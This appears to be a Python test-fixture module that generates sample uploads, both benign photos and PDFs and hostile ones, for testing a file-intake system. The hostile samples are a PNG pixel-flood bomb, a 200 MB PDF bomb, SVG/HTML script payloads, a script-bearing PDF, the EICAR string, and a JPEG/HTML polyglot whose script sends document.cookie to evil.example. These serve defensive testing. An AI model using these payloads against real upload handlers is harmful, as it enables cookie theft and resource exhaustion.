"""Files as residents, scanners and attackers send them. All made here: nothing is read from disk."""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path
from typing import cast

from PIL import Image, ImageDraw, ImageFont
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

from look.fonts import font_path

# A picture of an invoice with the place where it was taken, as a telephone's camera adds it.
GPS_LATITUDE = 34.7722


def photo(text: str = "医疗门诊收费票据\n金额 86,200.00", *, size: tuple[int, int] = (1200, 900)) -> bytes:
    """A JPEG with EXIF (camera, GPS) and writing large enough to read."""
    image = Image.new("RGB", size, "#f7f4ea")
    draw = ImageDraw.Draw(image)
    font = ImageFont.truetype(str(font_path("bold")), 48)
    draw.multiline_text((60, 60), text, fill="#222222", font=font, spacing=24)
    draw.rectangle((40, 40, size[0] - 40, size[1] - 40), outline="#999999", width=3)
    exif = Image.Exif()
    exif[0x010F] = "Canary Camera Works"
    exif.get_ifd(0x8825)[2] = (GPS_LATITUDE, 0.0, 0.0)
    out = io.BytesIO()
    image.save(out, "JPEG", quality=88, exif=exif)
    return out.getvalue()


def png(size: tuple[int, int] = (400, 300)) -> bytes:
    out = io.BytesIO()
    Image.new("RGBA", size, (10, 107, 80, 128)).save(out, "PNG")
    return out.getvalue()


def pixel_flood() -> bytes:
    """A PNG of a few kilobytes that claims 30,000 x 30,000 pixels: 2.7 GB when opened carelessly."""
    width = height = 30_000

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 100_000, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def polyglot() -> bytes:
    """A good JPEG that is also an HTML page with a script, and a zip at its end."""
    good = photo()
    comment = b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>"
    marker = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return good[:2] + marker + good[2:] + b"PK\x03\x04payload"


SVG = b"""<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>"""
HTML = b"<!doctype html><script>alert(document.domain)</script>"
# The standard text by which virus scanners are tried; harmless.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def pdf(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    return _written(writer)


def pdf_with_script() -> bytes:
    """A PDF that runs JavaScript when opened, carries a file and opens an address on a click."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_attachment("CanaryFile", b"MZ this is not a programme")
    script = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("CanaryScript")}
    )
    names = ArrayObject([TextStringObject("start"), writer._add_object(script)])
    tree = cast(DictionaryObject, writer.root_object["/Names"].get_object())
    tree[NameObject("/JavaScript")] = DictionaryObject({NameObject("/Names"): names})
    writer.add_metadata({"/Author": "CanaryAuthor"})
    address = TextStringObject("CanaryAddress")
    action = DictionaryObject({NameObject("/S"): NameObject("/URI"), NameObject("/URI"): address})
    writer.root_object[NameObject("/OpenAction")] = action
    return _written(writer)


def pdf_bomb() -> bytes:
    """A page whose content stream unpacks to 200 MB."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    opener = zlib.compressobj(9)
    packed = b"".join(opener.compress(b" " * 4_000_000) for _ in range(50)) + opener.flush()
    stream = DecodedStreamObject()
    stream._data = packed
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    page[NameObject("/Contents")] = writer._add_object(stream)
    return _written(writer)


def locked_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt("secret", algorithm="AES-256")
    return _written(writer)


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def save(folder: Path, content: bytes) -> Path:
    path = folder / "quarantined"
    path.write_bytes(content)
    return path
